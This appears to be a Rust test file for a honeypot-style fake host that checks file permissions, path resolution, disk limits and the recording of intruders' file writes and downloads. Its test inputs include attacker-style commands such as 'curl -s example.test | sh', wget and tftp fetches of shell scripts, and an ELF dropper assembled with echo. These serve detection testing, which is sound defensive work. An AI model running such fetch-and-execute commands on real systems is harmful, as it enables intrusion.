//! The fake host's files through their public interface: permissions, limits, links, captures.

use model::event::Name;
use model::{Detail, Timestamp};
use proptest::prelude::*;
use shell::{Errno, Host, Io, Kind, Login, Machine, Observer};
use std::sync::{Arc, LazyLock, Mutex};

#[derive(Default)]
struct Recorded {
    events: Mutex<Vec<Detail>>,
    captured: Mutex<Vec<(Vec<u8>, Vec<u8>)>>,
}

impl Observer for Recorded {
    fn observe(&self, detail: Detail) {
        self.events.lock().unwrap().push(detail);
    }

    fn capture(&self, path: &[u8], content: &[u8], _: Name) {
        self.captured.lock().unwrap().push((path.to_vec(), content.to_vec()));
    }
}

impl Recorded {
    fn captures(&self) -> Vec<(String, usize)> {
        self.captured.lock().unwrap().iter().map(|(path, content)| (String::from_utf8_lossy(path).into_owned(), content.len())).collect()
    }

    fn fetches(&self) -> Vec<String> {
        let events = self.events.lock().unwrap();
        events
            .iter()
            .filter_map(|event| if let Detail::Fetch { url, tool } = event { Some(format!("{tool} {}", url.lossy())) } else { None })
            .collect()
    }
}

const NOW: Timestamp = Timestamp(1_774_138_481_000_000);

fn host(persona: &str) -> Host {
    let instance = persona::Instance { seed: 7, booted: Timestamp(NOW.0 - 86_400_000_000 * 21), address: "192.0.2.10".parse().unwrap() };
    Host::new(Arc::new(persona::builtin(persona).unwrap()), instance).unwrap()
}

static SERVER: LazyLock<Host> = LazyLock::new(|| host("ubuntu-web"));
static ROUTER: LazyLock<Host> = LazyLock::new(|| host("busybox-router"));

fn login(host: &Host, user: &str) -> (Machine, Arc<Recorded>) {
    let recorded = Arc::new(Recorded::default());
    let machine = host.login(Login {
        user: user.to_owned(),
        peer: "198.51.100.7:40022".parse().unwrap(),
        local: "192.0.2.10:22".parse().unwrap(),
        now: NOW,
        observer: recorded.clone(),
    });
    (machine, recorded)
}

/// Runs one line and forgets what it prints.
async fn run(machine: &Machine, line: &str) {
    let (_, stdin) = tokio::sync::mpsc::channel(1);
    let (output, mut printed) = tokio::sync::mpsc::channel(64);
    let (_, ()) = tokio::join!(machine.run(line.as_bytes(), Io { stdin, output }), async { while printed.recv().await.is_some() {} });
}

#[tokio::test]
async fn permissions_are_those_of_the_login() {
    let (machine, _) = login(&SERVER, "deploy");
    let files = machine.files();
    assert_eq!(files.read(b"/etc/shadow"), Err(Errno::Eacces));
    assert_eq!(files.list(b"/root").err(), Some(Errno::Eacces));
    assert_eq!(files.write(b"/etc/passwd", b"x".to_vec(), 0o644), Err(Errno::Eacces));
    assert_eq!(files.make_directory(b"/opt/x", 0o755), Err(Errno::Eacces));
    assert_eq!(files.remove(b"/var/www/html/index.html"), Err(Errno::Eacces));
    assert_eq!(files.write(b"hooks/new", b"x".to_vec(), 0o666), Ok(()));
    let metadata = files.stat(b"/home/deploy/hooks/new").unwrap();
    assert_eq!((metadata.uid, metadata.mode, metadata.size, metadata.kind), (1001, 0o644, 1, Kind::File));
    // The sticky bit of /tmp keeps others' files.
    let (root, _) = login(&SERVER, "root");
    root.files().write(b"/tmp/mine", b"x".to_vec(), 0o644).unwrap();
    assert_eq!(files.stat(b"/tmp/mine").err(), Some(Errno::Enoent), "sessions do not see each other's files");
}

#[tokio::test]
async fn paths_resolve_as_on_linux() {
    let (machine, _) = login(&SERVER, "root");
    let files = machine.files();
    for (path, real) in [
        ("/bin/ls", "/usr/bin/ls"),
        ("/bin/../../etc//./passwd", "/etc/passwd"),
        ("/var/run", "/run"),
        ("/..", "/"),
        ("relative", "/root/relative"),
        ("/nosuch", "/nosuch"),
    ] {
        assert_eq!(files.real_path(path.as_bytes()).map(|p| String::from_utf8_lossy(&p).into_owned()), Ok(real.to_owned()), "{path}");
    }
    for (path, errno) in
        [("/nosuch/x", Errno::Enoent), ("/etc/passwd/x", Errno::Enotdir), ("/etc/passwd/", Errno::Enotdir), ("", Errno::Enoent)]
    {
        assert_eq!(files.stat(path.as_bytes()).err(), Some(errno), "{path}");
    }
    files.symlink(b"loop", b"/tmp/loop").unwrap();
    assert_eq!(files.stat(b"/tmp/loop").err(), Some(Errno::Eloop));
    assert_eq!(files.stat(&[b"/", &[b'a'; 300][..]].concat()).err(), Some(Errno::Enametoolong));
    assert_eq!(files.stat(&b"/a".repeat(3000)).err(), Some(Errno::Enametoolong));
}

#[tokio::test]
async fn names_move_and_links_count() {
    let (machine, _) = login(&SERVER, "root");
    let files = machine.files();
    files.make_directory(b"/tmp/d", 0o755).unwrap();
    files.write(b"/tmp/d/a", b"1".to_vec(), 0o644).unwrap();
    files.link(b"/tmp/d/a", b"/tmp/d/b").unwrap();
    assert_eq!(files.stat(b"/tmp/d/b").unwrap().links, 2);
    assert_eq!(files.remove_directory(b"/tmp/d"), Err(Errno::Enotempty));
    assert_eq!(files.rename(b"/tmp/d", b"/tmp/d/e"), Err(Errno::Einval));
    assert_eq!(files.rename(b"/tmp/d/a", b"/tmp/d/c"), Ok(()));
    assert_eq!(files.rename(b"/tmp/d", b"/tmp/f"), Ok(()));
    assert_eq!(files.read(b"/tmp/f/c").as_deref(), Ok(&b"1"[..]));
    assert_eq!(files.link(b"/tmp/f/c", b"/run/x"), Err(Errno::Exdev));
    assert_eq!(files.remove(b"/etc/hostname"), Ok(()));
    assert_eq!(files.stat(b"/etc/hostname").err(), Some(Errno::Enoent));
    assert!(files.list(b"/etc").unwrap().iter().all(|(name, _)| name != b"hostname"));
    assert_eq!(files.write(b"/etc/hostname", b"new\n".to_vec(), 0o644), Ok(()));
    assert_eq!(files.read(b"/etc/hostname").as_deref(), Ok(&b"new\n"[..]));
}

#[tokio::test]
async fn the_disk_fills_up_and_empties_again() {
    let (machine, _) = login(&SERVER, "root");
    let files = machine.files();
    let megabytes = |count: usize| vec![7u8; count << 20];
    for index in 0..8 {
        files.write(format!("/tmp/{index}").as_bytes(), megabytes(4), 0o644).unwrap();
    }
    assert_eq!(files.write(b"/tmp/more", megabytes(1), 0o644), Err(Errno::Enospc));
    files.remove(b"/tmp/3").unwrap();
    assert_eq!(files.write(b"/tmp/more", megabytes(1), 0o644), Ok(()));
    // Making and removing leaves no trace in the budget; only keeping does.
    for _ in 0..30_000 {
        files.make_directory(b"/tmp/d", 0o755).unwrap();
        files.remove_directory(b"/tmp/d").unwrap();
    }
    let made = (0..20_000).take_while(|index| files.make_directory(format!("/tmp/d{index}").as_bytes(), 0o755).is_ok()).count();
    assert!((5_000..=10_000).contains(&made), "{made}");
}

#[tokio::test]
async fn an_embedded_root_is_read_only() {
    let (machine, _) = login(&ROUTER, "root");
    let files = machine.files();
    assert_eq!(files.write(b"/bin/x", Vec::new(), 0o755), Err(Errno::Erofs));
    assert_eq!(files.remove(b"/bin/busybox"), Err(Errno::Erofs));
    assert_eq!(files.set_mode(b"/bin/busybox", 0o777), Err(Errno::Erofs));
    assert_eq!(files.write(b"/tmp/x", Vec::new(), 0o755), Ok(()));
    assert_eq!(files.rename(b"/tmp/x", b"/etc/x"), Err(Errno::Exdev));
    assert_eq!(files.write(b"/proc/x", Vec::new(), 0o644), Err(Errno::Enoent));
}

#[tokio::test]
async fn what_is_written_is_captured_once() {
    let (machine, recorded) = login(&SERVER, "root");
    run(&machine, "echo one > /tmp/a").await;
    assert_eq!(recorded.captures(), [("/tmp/a".to_owned(), 4)]);
    // A dropper in many pieces is one file, when it is made executable.
    for _ in 0..50 {
        run(&machine, "echo -ne '\\x7f\\x45' >> /tmp/b").await;
    }
    run(&machine, "chmod +x /tmp/b; rm /tmp/b").await;
    let of_b: Vec<usize> = recorded.captures().iter().filter(|(path, _)| path == "/tmp/b").map(|(_, bytes)| *bytes).collect();
    assert!(of_b.len() <= 2 && of_b.last() == Some(&100), "{of_b:?}");
    // A copy of the host's own program is nobody's malware, nor is what a fetch seems to bring.
    let before = recorded.captures().len();
    run(&machine, "cp /bin/ls /tmp/c; wget -q http://192.0.2.1/x -O /tmp/d; : > /tmp/e").await;
    assert_eq!(recorded.captures().len(), before);
    // What is still open when the session ends is captured then.
    run(&machine, "echo start > /tmp/f; echo more >> /tmp/f").await;
    drop(machine);
    assert!(recorded.captures().contains(&("/tmp/f".to_owned(), 11)));
}

#[tokio::test(start_paused = true)]
async fn every_fetch_is_recorded_with_its_url() {
    let (machine, recorded) = login(&SERVER, "root");
    run(
        &machine,
        "cd /tmp; wget http://192.0.2.1/a.sh; curl -O https://example.test:8443/b; curl -s example.test | sh; tftp 192.0.2.2 -c get c.sh",
    )
    .await;
    run(&machine, "busybox tftp -g -l d -r e 192.0.2.3; busybox ftpget -P 2121 192.0.2.4 f g; wget 'not a url'; scp root@192.0.2.5:/x .")
        .await;
    assert_eq!(
        recorded.fetches(),
        [
            "wget http://192.0.2.1/a.sh",
            "curl https://example.test:8443/b",
            "curl http://example.test",
            "tftp tftp://192.0.2.2/c.sh",
            "tftp tftp://192.0.2.3/e",
            "ftpget ftp://192.0.2.4:2121/g",
            "wget not a url",
            "scp scp://root@192.0.2.5//x",
        ]
        .map(|text| text.replace("//x", "/x"))
    );
    let files = machine.files();
    for (path, magic) in [
        ("/tmp/a.sh", &b"#!/bin/sh"[..]),
        ("/tmp/b", b"\x7fELF"),
        ("/tmp/c.sh", b"#!/bin/sh"),
        ("/root/d", b"\x7fELF"),
        ("/root/f", b"\x7fELF"),
    ] {
        assert!(files.read(path.as_bytes()).unwrap().starts_with(magic), "{path}");
    }
}

#[test]
fn every_program_listed_can_be_run_or_is_a_daemon() {
    // Daemons and a runtime that nobody starts by hand; running one gives an exec format error until it is written.
    const DAEMONS: &[&str] = &[
        "ModemManager",
        "agetty",
        "apache2",
        "cron",
        "dbus-daemon",
        "irqbalance",
        "multipathd",
        "mysqld",
        "networkd-dispatcher",
        "node",
        "rsyslogd",
        "sshd",
        "init",
        "cfgmgr",
        "dbclient",
        "dnsmasq",
        "dropbear",
        "hostapd",
        "httpd",
        "iwpriv",
        "miniupnpd",
        "nvram",
        "pppd",
    ];
    for (host, user) in [(&*SERVER, "root"), (&*ROUTER, "root")] {
        let (machine, _) = login(host, user);
        let files = machine.files();
        let mut seen = 0;
        for directory in ["/bin", "/sbin", "/usr/bin", "/usr/sbin"] {
            for (name, _) in files.list(directory.as_bytes()).unwrap() {
                let name = String::from_utf8_lossy(&name).into_owned();
                let path = format!("{directory}/{name}");
                let runs = match files.program(path.as_bytes()) {
                    Ok(shell::Program::Tool(tool)) => {
                        let tool = String::from_utf8_lossy(&tool).into_owned();
                        shell::COMMANDS.iter().any(|command| command.name == tool) || DAEMONS.contains(&name.as_str()) || tool == "systemd"
                    }
                    Ok(shell::Program::Bytes(_)) => true,
                    Err(_) => false,
                };
                assert!(runs, "{path} is listed but cannot be run");
                seen += 1;
            }
        }
        assert!(seen > 100, "only {seen} programs");
    }
}

#[test]
fn every_account_has_the_home_it_says() {
    for host in [&*SERVER, &*ROUTER] {
        let (machine, _) = login(host, "root");
        for user in host.persona().host.users.iter().filter(|user| user.shell.ends_with("sh")) {
            let metadata =
                machine.files().stat(user.home.as_bytes()).unwrap_or_else(|errno| panic!("{}: {}: {errno}", user.name, user.home));
            assert!(metadata.uid == user.uid || user.uid == 500, "{}", user.name);
        }
    }
}

proptest! {
    #[test]
    fn no_path_panics(path in prop::collection::vec(any::<u8>(), 0..300), other in r"(/|\.\.|\.|proc|self|fd|0|etc|tmp|a){0,12}") {
        let (machine, _) = login(&SERVER, "deploy");
        let files = machine.files();
        for path in [&path[..], other.as_bytes(), &[b"/proc/self/", &path[..]].concat()] {
            let _ = files.stat(path);
            let _ = files.lstat(path);
            let _ = files.real_path(path);
            let _ = files.read_link(path);
            let _ = files.list(path);
            let _ = files.program(path);
            let _ = files.make_directory(path, 0o7777);
            let _ = files.write(path, vec![1], 0o777);
            let _ = files.rename(path, b"/tmp/x");
            let _ = files.symlink(path, b"/tmp/l");
            let _ = files.remove(path);
            let _ = files.remove_directory(path);
        }
    }
}
